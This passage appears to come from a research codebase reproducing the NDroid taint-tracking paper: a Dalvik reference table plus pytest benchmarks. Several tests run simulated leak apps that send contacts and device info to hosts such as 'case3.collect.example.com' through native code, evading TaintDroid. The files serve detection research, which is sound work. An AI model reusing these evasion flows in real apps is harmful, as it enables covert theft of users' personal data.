  taints stored in the caller's outs area for native callees (paper Fig. 1);
* a heap with a **moving (semispace) garbage collector**, so direct object
  pointers go stale exactly as on Android ≥ 4.0;
* an **indirect reference table**: native code holds irefs, and
  ``dvmDecodeIndirectRef`` maps them to current object addresses (the
  reason NDroid keys its shadow memory for Java objects by iref);
* an interpreter whose per-instruction taint propagation implements
  TaintDroid's policy, used by both the TaintDroid baseline and NDroid
  (which reuses TaintDroid's Java-side tracking, Section V.A).
"""

from repro.dalvik.classes import ClassDef, Field, Method, MethodBuilder
from repro.dalvik.heap import DvmHeap, ObjectRecord
from repro.dalvik.instructions import Ins, Op
from repro.dalvik.irt import IndirectRefTable
from repro.dalvik.stack import DvmStack, Frame
from repro.dalvik.vm import DalvikVM

__all__ = [
    "DalvikVM",
    "ClassDef",
    "Field",
    "Method",
    "MethodBuilder",
    "DvmHeap",
    "ObjectRecord",
    "IndirectRefTable",
    "DvmStack",
    "Frame",
    "Ins",
    "Op",
]
