"""The indirect reference table (IRT).

Since Android 4.0 native code receives *indirect references* instead of
direct object pointers; when the GC moves an object it "updates the
indirect reference table with the object's new location.  Consequently,
native codes will hold valid object pointers every time GC moves objects
around" (Section II.A).  NDroid must handle both irefs and direct pointers
(pre-ICS), so the table exposes a decode that accepts either.

Encoding (mirrors dalvik's ``IndirectRef``): the low 2 bits hold the kind
(1 = local, 2 = global), the remaining bits hold a serial|index cookie.
Encoded values land far from heap/code addresses so confusing an iref with
a pointer fails loudly.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.common.errors import JNIError

KIND_LOCAL = 1
KIND_GLOBAL = 2

_IREF_BASE = 0x5F80_0000
# iref layout: | base | serial (6 bits) | index (12 bits) | kind (2 bits) |
_SERIAL_SHIFT = 14
_INDEX_MASK = (1 << _SERIAL_SHIFT) - 1
_MAX_INDEX = (_INDEX_MASK >> 2)


class IndirectRefTable:
    """Local + global reference tables with GC move support."""

    def __init__(self) -> None:
        self._tables: Dict[int, List[Optional[int]]] = {
            KIND_LOCAL: [], KIND_GLOBAL: []}
        self._serial = 0

    # -- add/remove -----------------------------------------------------------

    def _encode(self, kind: int, index: int) -> int:
        if index > _MAX_INDEX:
            raise JNIError("indirect reference table overflow")
        self._serial = (self._serial + 1) & 0x3F
        return (_IREF_BASE + (self._serial << _SERIAL_SHIFT)
                + (index << 2)) | kind

    def add_local(self, object_address: int) -> int:
        return self._add(KIND_LOCAL, object_address)

    def add_global(self, object_address: int) -> int:
        return self._add(KIND_GLOBAL, object_address)

    def _add(self, kind: int, object_address: int) -> int:
        if object_address == 0:
            return 0  # NULL stays NULL through JNI
        table = self._tables[kind]
        for index, entry in enumerate(table):
            if entry is None:
                table[index] = object_address
                return self._encode(kind, index)
        table.append(object_address)
        return self._encode(kind, len(table) - 1)

    def remove(self, iref: int) -> None:
        kind, index = self._split(iref)
        table = self._tables[kind]
        if index >= len(table) or table[index] is None:
            raise JNIError(f"DeleteRef on dead iref 0x{iref:08x}")
        table[index] = None

    # -- decode -----------------------------------------------------------------

    @staticmethod
    def is_indirect(value: int) -> bool:
        return (value & 0x3) != 0 and (value & 0xFF00_0000) == \
            (_IREF_BASE & 0xFF00_0000)

    def _split(self, iref: int):
        kind = iref & 0x3
        if kind not in self._tables:
            raise JNIError(f"bad indirect reference kind in 0x{iref:08x}")
        index = ((iref - _IREF_BASE) & _INDEX_MASK) >> 2
        return kind, index

    def decode(self, iref: int) -> int:
        """dvmDecodeIndirectRef: iref (or direct pointer) -> address."""
        if iref == 0:
            return 0
        if not self.is_indirect(iref):
            return iref  # pre-ICS direct pointer passes through
        kind, index = self._split(iref)
        table = self._tables[kind]
        if index >= len(table) or table[index] is None:
            raise JNIError(f"stale indirect reference 0x{iref:08x}")
        return table[index]

    # -- GC integration ------------------------------------------------------------

    def on_object_moved(self, old_address: int, new_address: int) -> None:
        for table in self._tables.values():
            for index, entry in enumerate(table):
                if entry == old_address:
                    table[index] = new_address

    def roots(self) -> List[int]:
        """All referenced object addresses (GC roots)."""
        return [entry for table in self._tables.values()
                for entry in table if entry]

    def local_count(self) -> int:
        return sum(1 for entry in self._tables[KIND_LOCAL] if entry)

    def global_count(self) -> int:
        return sum(1 for entry in self._tables[KIND_GLOBAL] if entry)
