"""Pytest root configuration.

Makes ``src/`` importable when the package has not been pip-installed
(the offline environment lacks ``wheel``, so editable installs fail).
"""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "src"))
