"""Ablation — the instruction tracer's hot-handler cache (Section V.C).

"To speed up the identification of the instruction type and the search of
the handler, NDroid caches hot instructions and the corresponding
handlers."  The ablated tracer re-selects the handler for every traced
instruction.
"""

import time

import pytest

from repro.bench import CFBench
from repro.core import NDroid
from repro.framework import AndroidPlatform


def make_platform(use_handler_cache):
    platform = AndroidPlatform()
    NDroid.attach(platform, use_handler_cache=use_handler_cache)
    return platform


@pytest.mark.parametrize("cache", [True, False],
                         ids=["hot-cache", "no-cache"])
def test_benchmark_handler_cache(benchmark, cache):
    platform = make_platform(cache)
    bench = CFBench(platform, iterations=400)

    def run():
        bench.run_workload("native_mips")

    benchmark.pedantic(run, rounds=3, iterations=1)
    tracer = platform.ndroid.instruction_tracer
    assert tracer.traced_instructions > 0
    if cache:
        assert tracer.cache_hits > 0
    else:
        assert tracer.cache_hits == 0


def test_cache_hit_rate_on_hot_loop():
    platform = make_platform(True)
    bench = CFBench(platform, iterations=500)
    bench.run_workload("native_mips")
    tracer = platform.ndroid.instruction_tracer
    hit_rate = tracer.cache_hits / max(tracer.traced_instructions, 1)
    print(f"\nhot-loop handler cache hit rate: {hit_rate:.1%}")
    assert hit_rate > 0.95
