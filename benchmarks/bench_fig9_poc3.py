"""Fig. 9 — the PoC of case 3.

Device info crosses into native code, gets re-wrapped by NewStringUTF
(NDroid re-taints the new String object), and returns to Java through
CallVoidMethod → dvmCallMethodV → dvmInterpret, where NDroid writes the
taint into the callback's frame slot; the Java sink then fires.
"""

from repro.apps import poc_case3
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform


def run_once(config="ndroid"):
    scenario = poc_case3.build()
    platform = make_platform(config)
    run_scenario(scenario, platform)
    return scenario, platform


def test_fig9_flow_and_taint():
    scenario, platform = run_once()
    hits = [r for r in platform.leaks.records
            if r.taint & scenario.expected_taint]
    assert hits, platform.leaks.summary()
    # The transmitted blob includes the Fig. 9 fields.
    sent = platform.kernel.network.transmissions_to(
        "case3.collect.example.com")
    assert sent
    payload = b"".join(t.payload for t in sent)
    assert platform.device.line1_number.encode() in payload
    assert platform.device.network_operator.encode() in payload
    # Fig. 9 sequence: NewStringUTF re-taint, the dvmCallMethodV ->
    # dvmInterpret chain, and the frame-slot taint injection.
    kinds = platform.event_log.kinds()
    for expected in ("NewStringUTF.taint", "dvmCallMethodV",
                     "dvmInterpret", "frame.taint"):
        assert expected in kinds, expected
    frame_event = platform.event_log.first("frame.taint")
    assert frame_event.data["taint"] & scenario.expected_taint
    print()
    print("Fig. 9 reproduction — key events:")
    for kind in ("NewStringUTF.taint", "CallStaticVoidMethod.args",
                 "dvmInterpret", "frame.taint"):
        event = platform.event_log.first(kind)
        if event:
            print(" ", event.format())


def test_taintdroid_alone_misses_it():
    scenario, platform = run_once("taintdroid")
    assert not platform.leaks.detected_by("taintdroid",
                                          scenario.expected_taint)
    # The data still left the device (the evasion works).
    assert platform.kernel.network.transmissions_to(
        "case3.collect.example.com")


def test_benchmark_poc3_under_ndroid(benchmark):
    scenario, platform = benchmark.pedantic(run_once, rounds=3,
                                            iterations=1)
    assert platform.leaks.records
