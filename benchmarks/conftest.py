"""Shared helpers for the per-table/figure benchmark harnesses."""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "src"))

import pytest


def fresh_platform(config):
    from repro.bench.harness import make_platform
    return make_platform(config)


@pytest.fixture
def run_scenario_under():
    """Returns a callable running a named scenario under a config."""
    def runner(scenario_name, config):
        from repro.apps import ALL_SCENARIOS
        from repro.apps.base import run_scenario
        scenario = ALL_SCENARIOS[scenario_name]()
        platform = fresh_platform(config)
        run_scenario(scenario, platform)
        return scenario, platform
    return runner
