"""Ablation — modelled libc summaries vs instruction-level tracing.

Table VI exists because "instrumenting every instruction in these standard
functions will take a long time and incur heavy overhead".  The ablated
configuration bolts DroidScope-style byte-walking onto an NDroid platform
(simulating tracing through each library call's body) and runs a
memcpy-heavy native workload; the modelled configuration uses NDroid's
summaries only.
"""

import pytest

from repro.core import NDroid
from repro.dalvik.classes import ClassDef, MethodBuilder
from repro.dalvik.heap import Slot
from repro.framework import AndroidPlatform, Apk

CLASS_NAME = "Lcom/ablation/MemHeavy;"


def build_apk() -> Apk:
    cls = ClassDef(CLASS_NAME)
    cls.add_method(MethodBuilder(CLASS_NAME, "churn", "II", static=True,
                                 native=True).build())
    main = MethodBuilder(CLASS_NAME, "main", "V", static=True, registers=2)
    main.const_string(0, "libmem.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.ret_void()
    cls.add_method(main.build())
    native = """
    Java_com_ablation_MemHeavy_churn:     ; (env, jclass, n)
        push {r4, r5, lr}
        mov r4, r2
        mov r5, #0
    churn_loop:
        cmp r5, r4
        bge churn_done
        ldr r0, =buf_a
        ldr r1, =buf_b
        mov r2, #128
        ldr ip, =memcpy
        blx ip
        ldr r0, =buf_b
        mov r1, #0
        mov r2, #128
        ldr ip, =memset
        blx ip
        add r5, r5, #1
        b churn_loop
    churn_done:
        mov r0, r5
        pop {r4, r5, pc}
    .align 3
    buf_a:
        .space 128
    buf_b:
        .space 128
    """
    return Apk(package="com.ablation.memheavy", classes=[cls],
               native_libraries={"libmem.so": native},
               load_library_calls=["libmem.so"])


def make_configured_platform(trace_libc):
    platform = AndroidPlatform()
    NDroid.attach(platform)
    if trace_libc:
        # Bolt on instruction-level library walking (the cost NDroid's
        # Table VI summaries avoid).
        from repro.droidscope.system import DroidScopeSim
        sim = DroidScopeSim(platform)
        sim._hook_all_library_calls()
    apk = build_apk()
    platform.install(apk)
    platform.run_app(apk)
    return platform


@pytest.mark.parametrize("trace_libc", [False, True],
                         ids=["modelled", "traced"])
def test_benchmark_libc_model(benchmark, trace_libc):
    platform = make_configured_platform(trace_libc)

    def run():
        platform.vm.call_main(f"{CLASS_NAME}->churn", [Slot(120)])

    benchmark.pedantic(run, rounds=3, iterations=1)


def test_modelled_is_faster_than_traced():
    import time
    timings = {}
    for trace_libc in (False, True):
        platform = make_configured_platform(trace_libc)
        start = time.perf_counter()
        for __ in range(2):
            platform.vm.call_main(f"{CLASS_NAME}->churn", [Slot(150)])
        timings[trace_libc] = time.perf_counter() - start
    print()
    print(f"modelled libc: {timings[False]*1000:7.1f} ms")
    print(f"traced libc:   {timings[True]*1000:7.1f} ms "
          f"({timings[True]/timings[False]:.2f}x)")
    assert timings[True] > timings[False]
