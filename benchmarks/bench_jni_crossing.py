"""JNI boundary-crossing cost under each configuration.

Isolates what NDroid adds to a single Java→native→Java round trip: the
``dvmCallJNIMethod`` entry/exit hooks, SourcePolicy construction and
application, and the return-taint override — the per-crossing price of
Section V.B's machinery, separate from per-instruction tracing.
"""

import pytest

from repro.bench.harness import make_platform
from repro.dalvik import ClassDef, MethodBuilder
from repro.dalvik.heap import Slot
from repro.dalvik.instructions import Op
from repro.framework import Apk

CLASS_NAME = "Lcom/bench/Crossing;"


def build_crossing_apk() -> Apk:
    cls = ClassDef(CLASS_NAME)
    cls.add_method(MethodBuilder(CLASS_NAME, "nop", "II", static=True,
                                 native=True).build())
    # Java loop calling the (trivial) native method n times.
    loop = MethodBuilder(CLASS_NAME, "cross", "II", static=True,
                         registers=6)
    loop.const(0, 0).const(1, 0)
    loop.label("loop")
    loop.if_cmp(Op.IF_GE, 1, 5, "done")
    loop.invoke_static(f"{CLASS_NAME}->nop", 1)
    loop.move_result(2)
    loop.binop(Op.ADD_INT, 0, 0, 2)
    loop.add_lit(1, 1, 1)
    loop.goto("loop")
    loop.label("done")
    loop.ret(0)
    cls.add_method(loop.build())
    main = MethodBuilder(CLASS_NAME, "main", "V", static=True, registers=1)
    main.const_string(0, "libcross.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.ret_void()
    cls.add_method(main.build())
    native = """
    Java_com_bench_Crossing_nop:
        add r0, r2, #1
        bx lr
    """
    return Apk(package="com.bench.crossing", classes=[cls],
               native_libraries={"libcross.so": native},
               load_library_calls=["libcross.so"])


CROSSINGS = 150


@pytest.mark.parametrize("config", ["vanilla", "taintdroid", "ndroid",
                                    "droidscope"])
def test_benchmark_jni_round_trips(benchmark, config):
    platform = make_platform(config)
    apk = build_crossing_apk()
    platform.install(apk)
    platform.run_app(apk)

    def run():
        return platform.vm.call_main(f"{CLASS_NAME}->cross",
                                     [Slot(CROSSINGS)])

    result = benchmark.pedantic(run, rounds=3, iterations=1)
    # sum of (i+1) for i in range(n)
    assert result.value == CROSSINGS * (CROSSINGS + 1) // 2


def test_source_policy_created_per_tainted_crossing():
    from repro.common.taint import TAINT_IMEI
    platform = make_platform("ndroid")
    apk = build_crossing_apk()
    platform.install(apk)
    platform.run_app(apk)
    # Clean crossings create no tainted-delivery records...
    platform.vm.call_main(f"{CLASS_NAME}->cross", [Slot(10)])
    assert not platform.ndroid.tainted_native_deliveries()
    # ...tainted ones do.
    platform.vm.call_main(f"{CLASS_NAME}->nop", [Slot(1, TAINT_IMEI)])
    assert platform.ndroid.tainted_native_deliveries()
