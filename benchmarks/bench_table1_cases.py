"""Table I / Fig. 3 — the {source, intermediate, sink} case matrix.

Benchmarks end-to-end analysis of each case app under TaintDroid+NDroid
and re-asserts the detection matrix: TaintDroid alone detects only case 1;
NDroid detects every case.
"""

import pytest

from repro.apps import ALL_SCENARIOS
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform

CASES = ["case1", "case1_prime", "case2", "case3", "case4"]


def run_case(name, config):
    scenario = ALL_SCENARIOS[name]()
    platform = make_platform(config)
    run_scenario(scenario, platform)
    return scenario, platform


def test_detection_matrix_shape():
    """The headline Table I result, printed as the paper lays it out."""
    rows = []
    for name in CASES:
        scenario, td = run_case(name, "taintdroid")
        __, nd = run_case(name, "ndroid")
        td_hit = td.leaks.detected_by("taintdroid", scenario.expected_taint)
        nd_hit = any(r.taint & scenario.expected_taint
                     for r in nd.leaks.records)
        rows.append((scenario.case, td_hit, nd_hit))
    print()
    print(f"{'case':<8}{'TaintDroid':<12}{'NDroid':<8}")
    for case, td_hit, nd_hit in rows:
        print(f"{case:<8}{str(td_hit):<12}{str(nd_hit):<8}")
    assert [r[1] for r in rows] == [True, False, False, False, False]
    assert all(r[2] for r in rows)


@pytest.mark.parametrize("name", CASES)
def test_benchmark_case_under_ndroid(benchmark, name):
    def run():
        return run_case(name, "ndroid")

    scenario, platform = benchmark.pedantic(run, rounds=3, iterations=1)
    assert any(r.taint & scenario.expected_taint
               for r in platform.leaks.records)


@pytest.mark.parametrize("name", ["case1", "case2"])
def test_benchmark_case_under_taintdroid_only(benchmark, name):
    def run():
        return run_case(name, "taintdroid")

    scenario, platform = benchmark.pedantic(run, rounds=3, iterations=1)
    detected = platform.leaks.detected_by("taintdroid",
                                          scenario.expected_taint)
    assert detected == scenario.taintdroid_alone_detects
