"""Ablation — multilevel hooking (Fig. 5, Section V.B).

"Since the methods dvmCallMethod* and dvmInterpret may also be invoked by
other codes rather than the native codes under investigation, the overhead
will be high if we hook these two functions whenever they are called."

The ablated configuration fires every gated hook on every entry; the
gated configuration only on native-provenance chains.  The workload mixes
JNI exits (native → Java callbacks) with platform-internal users of the
same functions (``ThrowNew`` → ``initException`` → ``dvmCallMethodV``).
"""

import pytest

from repro.apps import poc_case3
from repro.apps.base import run_scenario
from repro.core import NDroid
from repro.framework import AndroidPlatform


def run_once(use_multilevel):
    platform = AndroidPlatform()
    ndroid = NDroid.attach(platform, use_multilevel=use_multilevel)
    scenario = poc_case3.build()
    run_scenario(scenario, platform)
    return scenario, platform, ndroid


def test_ablation_detection_unaffected():
    """Gating must never cost detections, only instrumentation work."""
    for use_multilevel in (True, False):
        scenario, platform, __ = run_once(use_multilevel)
        assert any(r.taint & scenario.expected_taint
                   for r in platform.leaks.records), use_multilevel


def test_gated_configuration_fires_fewer_hooks():
    __, __, gated = run_once(True)
    __, __, ablated = run_once(False)
    assert gated.multilevel.fires <= ablated.multilevel.fires
    print()
    print(f"multilevel ON : gated hook fires = {gated.multilevel.fires} "
          f"(checks = {gated.multilevel.checks})")
    print(f"multilevel OFF: gated hook fires = {ablated.multilevel.fires}")


@pytest.mark.parametrize("use_multilevel", [True, False],
                         ids=["gated", "hook-everything"])
def test_benchmark_multilevel(benchmark, use_multilevel):
    def run():
        return run_once(use_multilevel)

    scenario, platform, __ = benchmark.pedantic(run, rounds=3, iterations=1)
    assert platform.leaks.records
