"""Fig. 7 — the ePhone case-2 leak.

Contacts flow through GetStringUTFChars → memcpy/sprintf → sendto, and
NDroid's native sink check catches the SIP REGISTER packet bound for
``softphone.comwave.net``.
"""

from repro.apps import ephone
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform


def run_once(config="ndroid"):
    scenario = ephone.build()
    platform = make_platform(config)
    run_scenario(scenario, platform)
    return scenario, platform


def test_fig7_flow_and_taint():
    scenario, platform = run_once()
    hits = [r for r in platform.leaks.records
            if r.taint & scenario.expected_taint]
    assert hits, platform.leaks.summary()
    assert any("comwave" in r.destination for r in hits)
    assert any(r.sink == "sendto" for r in hits)
    # The packet on the wire is a SIP REGISTER carrying the contacts.
    sent = platform.kernel.network.transmissions_to("comwave")
    assert any(t.payload.startswith(b"REGISTER sip:") for t in sent)
    assert any(b"Vincent" in t.payload for t in sent)
    # Fig. 7's chain: GetStringUTFChars then the modelled calls.
    kinds = platform.event_log.kinds()
    assert "GetStringUTFChars.begin" in kinds
    print()
    print("Fig. 7 reproduction — native sink record:")
    print(" ", hits[0].describe())


def test_taintdroid_alone_misses_it():
    scenario, platform = run_once("taintdroid")
    assert not platform.leaks.detected_by("taintdroid",
                                          scenario.expected_taint)


def test_benchmark_ephone_under_ndroid(benchmark):
    scenario, platform = benchmark.pedantic(run_once, rounds=3,
                                            iterations=1)
    assert platform.leaks.records
