"""Section VI — the 8-app manual study under Monkey-driven input.

Claim reproduced: of the eight phone/SMS/contacts JNI apps, three deliver
sensitive data to native code and exactly one (the ePhone analogue) sends
it out through a native sink.
"""

import pytest

from repro.apps.market import MARKET_APPS, run_market_study


@pytest.fixture(scope="module")
def observations():
    return run_market_study(seed=7, events=12)


def test_market_study_headline(observations):
    delivering = [o for o in observations if o.delivered_to_native]
    leaking = [o for o in observations if o.leaked]
    print()
    print(f"{'package':<26} {'delivers':<10} {'leaks':<7} coverage")
    for o in observations:
        print(f"{o.package:<26} {str(o.delivered_to_native):<10} "
              f"{str(o.leaked):<7} {o.monkey_coverage:.0%}")
    assert len(observations) == 8
    assert len(delivering) == 3          # "3 apps delivered ... to native"
    assert len(leaking) == 1             # "One app ... further sends out"
    assert leaking[0].package == "com.market.ephone"


def test_benchmark_full_study(benchmark):
    observations = benchmark.pedantic(
        lambda: run_market_study(seed=7, events=8), rounds=2, iterations=1)
    assert len(observations) == 8


@pytest.mark.parametrize("package", sorted(MARKET_APPS))
def test_benchmark_single_app(benchmark, package):
    from repro.core import NDroid
    from repro.framework import AndroidPlatform, MonkeyRunner

    def run():
        platform = AndroidPlatform()
        NDroid.attach(platform)
        apk = MARKET_APPS[package]()
        platform.install(apk)
        MonkeyRunner(platform, seed=7).run(apk, events=8)
        return platform

    platform = benchmark.pedantic(run, rounds=2, iterations=1)
    assert platform is not None
