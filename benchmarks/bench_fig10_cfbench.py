"""Fig. 10 — CF-Bench overhead under each configuration.

The paper reports NDroid at 5.45±0.41× average slowdown on CF-Bench vs a
vanilla emulator, against DroidScope's ≥11×, with the cost concentrated
on native-side workloads while Java-side workloads stay near 1×
(TaintDroid's DVM tracking is reused, not re-instrumented).

Absolute ratios here are compressed — the substrate is a Python
interpreter rather than TCG-translated code, so the instrumented and
uninstrumented paths are closer in speed — but the *shape* assertions
below encode the paper's qualitative result:

* ordering: vanilla < TaintDroid < NDroid < DroidScope-sim (overall);
* NDroid's native slowdown exceeds its Java slowdown;
* DroidScope's Java slowdown dwarfs NDroid's.
"""

import pytest

from repro.bench import CFBench, OverheadHarness, WORKLOADS
from repro.bench.harness import CONFIGS, make_platform

ITERATIONS = 200


@pytest.fixture(scope="module")
def overhead_tables():
    harness = OverheadHarness(iterations=ITERATIONS, repeats=2)
    return harness.compare_all()


def test_fig10_shape(overhead_tables):
    ndroid = overhead_tables["ndroid"]
    taintdroid = overhead_tables["taintdroid"]
    droidscope = overhead_tables["droidscope"]
    print()
    for table in (taintdroid, ndroid, droidscope):
        print(table.format())
        print()
    # Ordering of overall slowdowns.
    assert taintdroid.overall < ndroid.overall < droidscope.overall
    # NDroid: native cost dominates, Java stays close to TaintDroid's.
    assert ndroid.native_score > ndroid.java_score
    assert ndroid.java_score < taintdroid.java_score * 1.6
    # DroidScope pays heavily for Java (instruction-level DVM
    # reconstruction) — NDroid does not.
    assert droidscope.java_score > ndroid.java_score * 1.5


@pytest.mark.parametrize("config", ["vanilla", "ndroid", "droidscope"])
def test_benchmark_native_mips(benchmark, config):
    platform = make_platform(config)
    bench = CFBench(platform, iterations=ITERATIONS)

    def run():
        bench.run_workload("native_mips")

    benchmark.pedantic(run, rounds=3, iterations=1)


@pytest.mark.parametrize("config", ["vanilla", "ndroid", "droidscope"])
def test_benchmark_java_mips(benchmark, config):
    platform = make_platform(config)
    bench = CFBench(platform, iterations=ITERATIONS)

    def run():
        bench.run_workload("java_mips")

    benchmark.pedantic(run, rounds=3, iterations=1)


@pytest.mark.parametrize("config", ["vanilla", "ndroid"])
def test_benchmark_native_mallocs(benchmark, config):
    platform = make_platform(config)
    bench = CFBench(platform, iterations=ITERATIONS)

    def run():
        bench.run_workload("native_mallocs")

    benchmark.pedantic(run, rounds=3, iterations=1)
