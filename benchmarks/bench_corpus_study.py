"""Section III + Fig. 2 — the large-scale JNI app study.

Regenerates the paper's corpus statistics over the calibrated synthetic
corpus and benchmarks the analysis pipeline's throughput.  The assertions
pin the published marginals:

* 37,506 Type I apps; 4,034 without libraries (48.1% AdMob);
* 1,738 Type II apps, 394 with loadable embedded dex;
* 16 Type III apps (11 games);
* Fig. 2: Game ≈ 42% of Type I.
"""

import pytest

from repro.corpus import CorpusGenerator, analyze_corpus

# Full-scale generation is ~230k records; benchmarks use a fixed slice
# scale for repeatable timing, plus one full-scale verification pass.
BENCH_SCALE = 0.05


@pytest.fixture(scope="module")
def full_report():
    records = CorpusGenerator(seed=2014, scale=1.0).generate()
    return analyze_corpus(records)


def test_full_scale_marginals_match_paper(full_report):
    report = full_report
    assert report.total_apps == 227_911
    assert len(report.type1) == 37_506
    assert report.type1_without_libs == 4_034
    assert report.admob_share_of_libless_type1 == pytest.approx(0.481,
                                                                abs=0.001)
    assert len(report.type2) == 1_738
    assert report.type2_loadable == 394
    assert len(report.type3) == 16
    assert report.type3_games == 11
    assert report.type1_category_shares["Game"] == pytest.approx(0.42,
                                                                 abs=0.01)
    print()
    print(report.format_summary())


def test_fig2_category_distribution(full_report):
    shares = full_report.type1_category_shares
    ranked = sorted(shares.items(), key=lambda kv: -kv[1])
    assert ranked[0][0] == "Game"
    # The paper's named slices all land within a point of their labels.
    for name, expected in [("Tools", 0.05), ("Entertainment", 0.05),
                           ("Communication", 0.04),
                           ("Personalization", 0.04),
                           ("Music And Audio", 0.04)]:
        assert shares[name] == pytest.approx(expected, abs=0.01), name


def bench_generate(scale):
    records = CorpusGenerator(seed=2014, scale=scale).generate()
    return records


def bench_analyze(records):
    return analyze_corpus(records)


def test_benchmark_corpus_generation(benchmark):
    records = benchmark.pedantic(bench_generate, args=(BENCH_SCALE,),
                                 rounds=3, iterations=1)
    assert len(records) > 10_000


def test_benchmark_static_analysis(benchmark):
    records = CorpusGenerator(seed=2014, scale=BENCH_SCALE).generate()
    report = benchmark.pedantic(bench_analyze, args=(records,),
                                rounds=3, iterations=1)
    assert report.jni_app_count > 1_500
