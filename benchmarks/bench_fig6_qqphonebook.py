"""Fig. 6 — the QQPhoneBook case-1' leak.

Re-runs QQPhoneBook 3.5 under TaintDroid+NDroid, checks that the sid URL
reaching ``info.3g.qq.com`` carries taint 0x202 (SMS | CONTACTS), that
the event log contains the Fig. 6 sequence, and benchmarks the end-to-end
analysis.
"""

from repro.apps import qqphonebook
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform


def run_once():
    scenario = qqphonebook.build()
    platform = make_platform("ndroid")
    run_scenario(scenario, platform)
    return scenario, platform


def test_fig6_flow_and_taint():
    scenario, platform = run_once()
    # Detection with the exact paper taint 0x202.
    hits = [r for r in platform.leaks.records if r.taint & 0x202]
    assert hits, platform.leaks.summary()
    assert any("info.3g.qq.com" in r.destination for r in hits)
    # The wire really carried the staged sid URL.
    sent = platform.kernel.network.transmissions_to("info.3g.qq.com")
    assert any(b"xpimlogin?sid=" in t.payload for t in sent)
    # Fig. 6 log shape: param taint recorded, then the NewStringUTF /
    # dvmCreateStringFromCstr pair re-taints the URL string.
    kinds = platform.event_log.kinds()
    assert "SourcePolicy.create" in kinds
    assert "NewStringUTF.begin" in kinds
    assert "dvmCreateStringFromCstr" in kinds
    assert "NewStringUTF.taint" in kinds
    taint_event = platform.event_log.first("NewStringUTF.taint")
    assert taint_event.data["taint"] == 0x202
    print()
    print("Fig. 6 reproduction — key events:")
    for kind in ("SourcePolicy.create", "NewStringUTF.begin",
                 "dvmCreateStringFromCstr", "NewStringUTF.taint", "leak"):
        event = platform.event_log.first(kind)
        if event:
            print(" ", event.format())


def test_taintdroid_alone_misses_it():
    scenario = qqphonebook.build()
    platform = make_platform("taintdroid")
    run_scenario(scenario, platform)
    assert not platform.leaks.detected_by("taintdroid", 0x202)


def test_benchmark_qqphonebook_under_ndroid(benchmark):
    scenario, platform = benchmark.pedantic(run_once, rounds=3,
                                            iterations=1)
    assert platform.leaks.records
