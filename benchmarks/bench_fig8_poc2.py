"""Fig. 8 — the PoC of case 2.

Contact id/name/email (taint 0x2) cross into native code, through three
GetStringUTFChars calls, and land in ``/sdcard/CONTACTS`` via
fopen/fprintf/fclose.  NDroid's fprintf sink handler flags the write.
"""

from repro.apps import poc_case2
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform


def run_once(config="ndroid"):
    scenario = poc_case2.build()
    platform = make_platform(config)
    run_scenario(scenario, platform)
    return scenario, platform


def test_fig8_flow_and_taint():
    scenario, platform = run_once()
    hits = [r for r in platform.leaks.records if r.taint & 0x2]
    assert hits, platform.leaks.summary()
    assert any(r.sink == "fprintf" for r in hits)
    assert any("/sdcard/CONTACTS" in r.destination for r in hits)
    # The file contents match Fig. 8's "1 Vincent cx@gg.com".
    content = platform.kernel.filesystem.read_text("/sdcard/CONTACTS")
    assert "1 Vincent cx@gg.com" in content
    # And the file's stored byte taints carry the contact label.
    file = platform.kernel.filesystem.lookup("/sdcard/CONTACTS")
    assert file.taint_union() & 0x2
    # Fig. 8 sequence: source policy seeded, three tainted
    # GetStringUTFChars, then the sink.
    chars_events = platform.event_log.find(kind="GetStringUTFChars.begin")
    assert len(chars_events) >= 3
    assert all(event.data["taint"] & 0x2 for event in chars_events[:3])
    print()
    print("Fig. 8 reproduction — /sdcard/CONTACTS:", repr(content))
    print("  sink record:", hits[0].describe())


def test_taintdroid_alone_misses_it():
    scenario, platform = run_once("taintdroid")
    assert not platform.leaks.detected_by("taintdroid", 0x2)
    # ...even though the file was really written.
    assert platform.kernel.filesystem.exists("/sdcard/CONTACTS")


def test_benchmark_poc2_under_ndroid(benchmark):
    scenario, platform = benchmark.pedantic(run_once, rounds=3,
                                            iterations=1)
    assert platform.leaks.records
