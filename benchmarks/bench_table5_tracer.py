"""Table V — ARM/Thumb taint-propagation throughput.

Benchmarks the instruction tracer over a representative third-party loop
(data processing, loads/stores, load/store-multiple), with and without the
hot-handler cache the paper describes ("NDroid caches hot instructions and
the corresponding handlers").
"""

import pytest

from repro.core.instruction_tracer import InstructionTracer
from repro.core.taint_engine import TaintEngine
from repro.cpu.assembler import assemble
from repro.emulator import Emulator

CODE_BASE = 0x6000_0000

LOOP = """
main:
    push {r4, r5, lr}
    mov r0, #0
    mov r1, #0
    ldr r4, =buffer
loop:
    cmp r1, #400
    bge done
    add r0, r0, r1
    eor r0, r0, r1, lsl #2
    and r2, r1, #15
    str r0, [r4, r2, lsl #2]
    ldr r3, [r4, r2, lsl #2]
    add r0, r0, r3
    add r1, r1, #1
    b loop
done:
    pop {r4, r5, pc}
buffer:
    .space 64
"""


def build(handler_cache):
    emu = Emulator()
    program = assemble(LOOP, base=CODE_BASE)
    emu.load(CODE_BASE, program.code)
    emu.memory_map.map(CODE_BASE, 0x1000, "libapp.so", third_party=True)
    emu.cpu.sp = 0x0800_0000
    engine = TaintEngine()
    tracer = InstructionTracer(engine,
                               is_third_party=emu.memory_map.is_third_party,
                               handler_cache=handler_cache)
    emu.add_tracer(tracer)
    return emu, program, tracer


@pytest.mark.parametrize("cache", [True, False],
                         ids=["hot-cache", "no-cache"])
def test_benchmark_tracer(benchmark, cache):
    emu, program, tracer = build(cache)
    entry = program.entry("main")

    def run():
        emu.call(entry)

    benchmark.pedantic(run, rounds=5, iterations=1)
    assert tracer.traced_instructions > 0
    if cache:
        assert tracer.cache_hits > tracer.traced_instructions * 0.9


def test_benchmark_untraced_baseline(benchmark):
    emu = Emulator()
    program = assemble(LOOP, base=CODE_BASE)
    emu.load(CODE_BASE, program.code)
    emu.cpu.sp = 0x0800_0000
    entry = program.entry("main")

    def run():
        emu.call(entry)

